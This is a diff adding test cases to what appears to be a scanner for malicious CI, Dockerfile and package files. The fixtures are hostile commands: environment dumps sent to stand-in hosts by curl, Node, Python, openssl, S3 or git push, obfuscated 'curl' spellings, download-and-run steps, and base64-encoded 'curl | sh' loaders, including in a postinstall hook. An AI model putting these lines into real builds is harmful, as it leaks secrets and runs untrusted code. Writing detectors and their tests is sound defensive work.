@@ -31,6 +31,20 @@ describe('commands in files of build servers and packages that send secrets away
     ['charts/api/templates/post.yaml', "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n      - name: i\n        command: [sh, -c, 'kubectl get secret -A -o json | curl -s --data-binary @- https://x.test/h']\n"],
     ['gradle/init.d/mirror.gradle', "['sh','-c','env | curl -s --data-binary @- http://x.test/e'].execute()\n"],
     ['scripts/coverage.sh', '#!/bin/bash\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://185.220.101.47/upload/v2 || true\n'],
+    ['.github/workflows/release.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: |\n        env > /tmp/e\n        curl -s --data-binary @/tmp/e https://x.test/i\n'],
+    ['.github/workflows/b.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        DATA=$(env | base64 -w0)\n        curl -s -d "$DATA" https://x.test/i\n'],
+    ['.gitlab-ci.yml', 'build:\n  script:\n    - printenv > build.env\n    - curl -sF f=@build.env https://x.test/i\n'],
+    ['.gitlab-ci.yml', 'build:\n  script:\n    - >\n      curl -s -X POST\n      -d "$(env)"\n      https://x.test/i\n'],
+    ['deploy.sh', '#!/bin/bash\nsend() { curl -s -d @- https://x.test/i; }\nenv | send\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        python3 -c "import os,urllib.request as u;u.urlopen(\'https://x.test/i\',str(dict(os.environ)).encode())"\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        node -e "fetch(\'https://x.test/i\',{method:\'POST\',body:JSON.stringify(process.env)})"\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        env | openssl s_client -quiet -connect x.test:443\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        env > e && aws s3 cp e s3://x-drop/e --no-sign-request\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        env | gh gist create -\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        env > e && git add -f e && git commit -qm e && git push https://x:y@git.x.test/a.git HEAD:e\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        cu""rl -s -d "$(env)" https://x.test/i\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        c\\url -s -d "$(env)" https://x.test/i\n'],
+    ['.github/workflows/e.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        curl -s --data-binary @/proc/self/environ https://x.test/i\n'],
   ])('%s: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([inWords('secrets sent')]);
   });
@@ -40,6 +54,8 @@ describe('commands in files of build servers and packages that send secrets away
     ['null.tf', 'resource "null_resource" "b" {\n  provisioner "local-exec" {\n    command = "curl -fsSL https://x.test/tf.sh | sudo bash"\n  }\n}\n'],
     ['Dockerfile', 'FROM node:22\nRUN wget -qO /usr/local/bin/u http://194.38.20.199/u && chmod +x /usr/local/bin/u\n'],
     ['.gitlab-ci.yml', 'test:\n  script:\n    - curl -s https://pastebin.com/raw/abc | bash\n'],
+    ['.github/workflows/c.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        curl -sLo /tmp/x http://203.0.113.9/x\n        chmod +x /tmp/x\n        /tmp/x\n'],
+    ['Dockerfile', 'FROM debian:12\nRUN wget -q http://203.0.113.9/agent -O /usr/bin/agent\nRUN chmod +x /usr/bin/agent && /usr/bin/agent\n'],
   ])('%s runs code of strangers: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([inWords('code of strangers')]);
   });
@@ -64,8 +80,33 @@ describe('commands in files of build servers and packages that send secrets away
     ['scripts/deploy.sh', '#!/bin/bash\nset -euo pipefail\nenv | grep ^APP_ | sort\ncurl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" -d "{\\"sha\\":\\"$GIT_SHA\\"}" https://deploy.example.com/v1/releases\nrsync -az -e "ssh -i ~/.ssh/deploy" dist/ web@example.com:/srv/www\n'],
     ['build.gradle', "repositories { mavenCentral(); maven { url 'https://repo.example.com/maven' } }\ntasks.register('version', Exec) { commandLine 'git', 'describe' }\n"],
     ['.travis.yml', 'after_success:\n  - bash <(curl -s https://codecov.io/bash)\n'],
+    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        env | sort\n        curl -fsS -d "$(date)" https://x.test/v1\n'],
+    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        env > build.log\n        curl -fsS -F f=@dist/app.tgz https://x.test/v1\n'],
+    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        curl -fsSLo tool.tgz https://x.test/tool-1.2.tgz\n        echo "${{ env.SUM }}  tool.tgz" | sha256sum -c\n        tar xzf tool.tgz && ./tool --env ci\n'],
+    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        python3 -c "import os; print(os.environ.get(\'CI\'))"\n        node -e "console.log(process.env.NODE_ENV)"\n        node -e "fetch(\'https://x.test/v1\', { headers: { authorization: process.env.TOKEN } })"\n'],
+    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        git push https://x-access-token:${{ secrets.GITHUB_TOKEN }}@github.com/a/b.git HEAD:main\n        aws s3 sync dist s3://site --delete\n        gh release create v1 dist/*\n        env -i make\n'],
+    ['.gitlab-ci.yml', 'build:\n  script:\n    - printenv > build.env\n    - grep ^APP_ build.env > app.env\n    - curl -fsS -T dist/app.tgz https://x.test/v1\n'],
+    ['.gitlab-ci.yml', 'deploy:\n  script:\n    - echo "$KUBECONFIG_B64" | base64 -d > kubeconfig\n    - cat ~/.ssh/id_ed25519.pub\n    - curl -fsS https://x.test/health\n'],
+    ['deploy.sh', '#!/bin/bash\nset -euo pipefail\nnotify() { curl -fsS -d "$1" https://x.test/hook; }\nenv | grep -c ^APP_\neval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519\nnotify "done"\n'],
+    ['Dockerfile', 'FROM debian:12\nENV A=1\nRUN curl -fsSL https://x.test/a.tgz -o /tmp/a.tgz\nRUN tar xzf /tmp/a.tgz && env A=2 ./a/install.sh\nRUN echo "SGVsbG8sIHdvcmxkIGFuZCBhbGw=" | base64 -d > /etc/motd\n'],
+    ['scripts/health.sh', '#!/bin/sh\nopenssl s_client -connect x.test:443 </dev/null | openssl x509 -noout -enddate\nenv | sort\n'],
   ])('but not %s: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([]);
+  });
+
+  it.each([
+    ['Dockerfile', 'FROM node:20\nRUN echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh\n'],
+    ['scripts/setup.sh', '#!/bin/sh\neval "$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d)"\n'],
+    ['package.json', '{"name": "app", "version": "1.0.1", "scripts": {"postinstall": "node -e \\"eval(Buffer.from(\'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo\',\'base64\').toString())\\""}}'],
+    ['.github/workflows/ci.yml', 'jobs:\n  a:\n    steps:\n    - run: python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"\n'],
+  ])('%s runs what nobody can read: %s', async (path, content) => {
+    expect([inWords('hidden code'), inWords('code of strangers')]).toContain((await harmOf(path, content))[0]);
+  });
+
+  it('looks first at what more than a request does', async () => {
+    const requests = Array.from({ length: 100 }, (_, index) => `        curl -fsS https://x.test/health/${index}\n`).join('');
+    expect(await harmOf('.github/workflows/ci.yml', `jobs:\n  a:\n    steps:\n    - run: |\n${requests}        curl -s -d "$(env)" https://x.test/i\n`)).toEqual([inWords('secrets sent')]);
+    expect(await harmOf('.github/workflows/ci.yml', `jobs:\n  a:\n    steps:\n    - run: |\n${requests}`)).toEqual([]);
   });
 
   it('counts what a change adds, not what stood there', async () => {
